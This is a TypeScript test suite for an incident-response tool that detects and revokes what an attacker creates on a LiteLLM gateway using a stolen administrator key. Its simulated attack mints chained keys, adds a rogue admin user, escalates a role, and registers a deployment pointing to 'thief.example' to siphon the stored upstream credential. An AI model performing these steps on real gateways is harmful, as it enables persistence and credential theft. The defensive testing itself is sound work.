import assert from 'node:assert/strict'
import { after, test } from 'node:test'

import { toHex, sha256, utf8 } from '#kit'
import { entityId, type EntityId, type Trigger } from '#model'
import { createPolicy } from '#policy'
import { expose, makePlan } from '#respond'
import { litellmActions, litellmConnector, nameMasterKey } from '#connectors/litellm'

import { fingerprinterOf } from '../../simulation/log-keys.ts'
import { foundCompany, upstreamValue, type Company } from './company.ts'
import { actionOf, openCordon, type Cordon } from './cordon.ts'
import { ask, chat, works } from './thief.ts'

const minuteMs = 60_000

const planFor = async (cordon: Cordon, exposure: Awaited<ReturnType<typeof expose>>, nowMs: number) =>
  makePlan({
    tenant: 't_default',
    incident: null,
    severity: 'critical',
    trust: { origin: 'vendor', sources: ['litellm'], confinedTo: null },
    exposure,
    view: cordon.estate.view(),
    sources: [
      {
        source: 'litellm',
        connector: 'litellm',
        connectorVersion: litellmConnector.version,
        authority: cordon.authority,
        actions: litellmActions,
        ladder: 'auto' as const,
      },
    ],
    policy: createPolicy(),
    nowMs,
  })

async function pullAll(cordon: Cordon): Promise<void> {
  for (const stream of ['inventory', 'requests', 'audit']) await cordon.pull(stream)
}
const found: Company[] = []
after(() => Promise.all(found.map(({ twin }) => twin.close())))
async function begin() {
  const company = await foundCompany()
  found.push(company)
  const cordon = openCordon(company)
  const id = (kind: 'identity' | 'credential' | 'resource' | 'app', native: string): EntityId =>
    entityId(kind, cordon.authority, native)
  return { company, cordon, id }
}

/**
 * A thief has the key of an administrator, and in an hour makes every way back in that a gateway offers. Nothing of it is
 * told to Cordon: it reads the logs and the lists, and the thief says what still opens.
 */
test("a stolen administrator's key: what it made is found and dies, and what lives on is named", async () => {
  const { company, cordon, id } = await begin()
  const { twin, clock, bosses, adas, crews, ada } = company
  const { url, gateway } = twin
  clock.pass(24 * 60 * minuteMs)
  const stolenAtMs = clock.nowMs()
  await pullAll(cordon)
  const step = (): void => clock.pass(2 * minuteMs)

  const mint = async (by: string, body: Record<string, string>): Promise<string> => {
    step()
    const { status, body: made } = await ask(url, by, 'POST', '/key/generate', body)
    assert.equal(status, 200)
    return String(made['key'])
  }
  const stolen = bosses.value
  const first = await mint(stolen, { key_alias: 'backup', user_id: 'boss' })
  // Of a key that a key made, and in another's name.
  const second = await mint(first, { key_alias: 'ci', user_id: 'ada' })
  step()
  assert.equal(
    (await ask(url, stolen, 'POST', '/user/new', { user_id: 'mallory', user_role: 'proxy_admin' })).status,
    200,
  )
  const mallorys = await mint(stolen, { user_id: 'mallory' })
  step()
  assert.equal(
    (await ask(url, stolen, 'POST', '/user/update', { user_id: 'ada', user_role: 'proxy_admin' })).status,
    200,
  )
  step()
  // The way to the upstream key itself: a deployment at an address of the thief's, with the credential that is stored.
  const { body: added } = await ask(url, stolen, 'POST', '/model/new', {
    model_name: 'gpt-4o',
    litellm_params: {
      model: 'openai/gpt-4o',
      api_base: 'https://thief.example/v1',
      litellm_credential_name: 'openai-prod',
    },
    model_info: { id: 'trap-1' },
  })
  const trap = String(added['model_id'])
  for (let call = 0; call < 3; call++) await chat(url, second)
  const stolenUpstream = gateway.state.deliveries.some(
    ({ address, key }) => address.includes('thief') && key === upstreamValue,
  )
  assert.ok(stolenUpstream, 'the thief has the upstream key')

  const isLedAway = async (): Promise<boolean> => {
    gateway.state.deliveries.length = 0
    await works(url, crews.value)
    return gateway.state.deliveries.some(({ address }) => address.includes('thief'))
  }
  const ways: Record<string, () => Promise<boolean>> = {
    'the stolen key': () => works(url, stolen),
    'the key it made': () => works(url, first),
    'the key that one made': () => works(url, second),
    "mallory's key": () => works(url, mallorys),
    'calls led to the thief': isLedAway,
  }
  const open = async (): Promise<string[]> => {
    const held: string[] = []
    for (const [name, opens] of Object.entries(ways)) if (await opens()) held.push(name)
    return held
  }
  assert.deepEqual(await open(), Object.keys(ways), 'all ways are open')

  clock.pass(minuteMs)
  await pullAll(cordon)
  const trigger = id('credential', `key/${bosses.key.token}`)
  const window = { fromMs: stolenAtMs, toMs: null }
  const exposure = await expose(
    cordon.estate.view(),
    { kind: 'credential', credential: trigger },
    window,
    clock.nowMs(),
  )
  const keyOf = (value: string): EntityId => id('credential', `key/${toHex(sha256(utf8(value)))}`)
  const made = new Set<EntityId>([
    ...exposure.descendants.map(({ entity }) => entity),
    ...exposure.credentials.map(({ credential }) => credential),
  ])
  const upstreamKey = id('credential', 'upstream/credential/openai-prod')
  const role = id('resource', 'role-assignment/ada/proxy_admin')
  const expected = [
    keyOf(first),
    keyOf(second),
    keyOf(mallorys),
    id('identity', 'user/mallory'),
    id('resource', `deployment/${trap}`),
    role,
    upstreamKey,
  ]
  assert.deepEqual(
    expected.filter((one) => !made.has(one)),
    [],
    'what was missed',
  )
  for (const spared of [keyOf(adas.value), keyOf(crews.value), id('identity', `user/${ada.user_id}`)]) {
    assert.ok(!exposure.descendants.some(({ entity }) => entity === spared), `${spared} was there before`)
  }

  const plan = await planFor(cordon, exposure, clock.nowMs())
  const steps = plan.steps.filter(({ connector }) => connector === 'litellm')
  assert.deepEqual(
    steps.map(({ verb }) => verb),
    [
      'litellm.model.block',
      'litellm.key.block',
      'litellm.user.block',
      'litellm.key.delete',
      'litellm.key.delete',
      'litellm.key.delete',
      'litellm.model.delete',
    ],
  )
  for (const { verb, target } of steps) await actionOf(verb).apply(cordon.context(), target)
  clock.pass(2 * minuteMs)
  assert.deepEqual(await open(), [], 'nothing that the gateway can end opens any more')
  for (const { verb, target } of steps) {
    const probed = await actionOf(verb).probe.run(cordon.context(), target)
    assert.equal(probed.verdict, 'dead', `${verb}: ${JSON.stringify(probed)}`)
  }
  assert.equal(await works(url, adas.value), true, 'Ada works on')
  assert.equal(await works(url, crews.value), true, 'and so does the crew')

  const named = new Set(plan.survivorsForeseen.map(({ credential }) => credential))
  for (const left of [upstreamKey, role, nameMasterKey(cordon.authority)]) assert.ok(named.has(left), left)
  for (const dead of [trigger, keyOf(first), keyOf(second), keyOf(mallorys)]) assert.ok(!named.has(dead), dead)
  assert.deepEqual(twin.wrongRequests, [])
  assert.deepEqual(twin.wrongAnswers, [])
  cordon.close()
})

test('`recall pkg:pypi/litellm`: from the release that runs, and from the machine, to every upstream key', async () => {
  const { company, cordon, id } = await begin()
  await cordon.pull('inventory')
  const upstreams = [
    'upstream/credential/openai-prod',
    `upstream/deployment/${company.spare.id}`,
    `upstream/deployment/${company.fixed.id}`,
    'upstream/mcp/mcp-1',
    'master-key',
    'salt-key',
    'database',
  ].map((native) => id('credential', native))
  const window = { fromMs: company.clock.nowMs() - minuteMs, toMs: null }
  const view = cordon.estate.view()
  const triggers = [
    { kind: 'artefact', purl: 'pkg:pypi/litellm', versions: ['1.99.4'] },
    { kind: 'host', host: entityId('host', 'host', 'gateway-1') },
  ] satisfies Trigger[]
  for (const trigger of triggers) {
    const exposure = await expose(view, trigger, window, company.clock.nowMs())
    const credentials = exposure.credentials.map(({ credential }) => credential)
    assert.deepEqual(
      upstreams.filter((one) => !credentials.includes(one)),
      [],
      trigger.kind,
    )
    // Who was in the process had what it holds, not the keys of those who use it: it knows their hashes alone.
    assert.ok(!credentials.some((one) => one.includes(':key/')))
    const plan = await planFor(cordon, exposure, company.clock.nowMs())
    const named = plan.survivorsForeseen.map(({ credential }) => credential)
    for (const one of upstreams) assert.ok(named.includes(one), `${one} is named as a survivor`)
  }
  cordon.close()
})

test('a key that lies on a host is the one LiteLLM knows, by fingerprint', async () => {
  const { company, cordon, id } = await begin()
  await cordon.pull('inventory')
  const print = entityId('credential', 'fp', fingerprinterOf('example').ofValue(company.adas.value))
  const same = await cordon.estate.view().edgesFrom([print], { types: ['SAME_AS'] })
  assert.deepEqual(
    same.map(({ dst }) => dst),
    [id('credential', `key/${company.adas.key.token}`)],
  )
  cordon.close()
})

test('of prompts, masked keys, addresses and header values nothing enters the log', async () => {
  const { company, cordon } = await begin()
  await chat(company.twin.url, company.adas.value)
  company.clock.pass(minuteMs)
  await pullAll(cordon)
  const text = cordon.logged.map(({ raw }) => raw).join('\n')
  for (const secret of ['SECRET', '****', 'EXAMPLE-in-the-address', 'EXAMPLE-header-value', 'sk-EXAMPLE']) {
    assert.ok(!text.includes(secret), secret)
  }
  const [touch] = cordon.items.flatMap(({ touches }) => touches)
  assert.equal(touch?.origin, '203.0.113.66')
  assert.equal(touch?.credential, `credential:${encodeAuthority(cordon.authority)}:key/${company.adas.key.token}`)
  assert.match(text, /"provider":"openai"/)
  cordon.close()
})
const encodeAuthority = (text: string): string => text.replaceAll(':', '%3a')
